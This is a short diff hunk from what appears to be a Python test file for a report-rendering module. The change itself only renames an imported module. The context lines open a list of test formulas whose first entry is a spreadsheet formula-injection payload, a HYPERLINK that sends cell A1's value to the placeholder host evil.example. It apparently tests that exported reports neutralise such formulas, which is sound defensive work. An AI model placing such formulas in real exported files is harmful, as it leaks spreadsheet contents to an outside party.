@@ -12,7 +12,7 @@ from support.reports import empty_report, make_report, make_waiting
 
 from voc.report.render import ReportFormat, render
 from voc.report.weekly import OpenUrgent, WeeklyReport
-from voc.store.reporting import Behind
+from voc.store.report_comments import Behind
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"押す")',
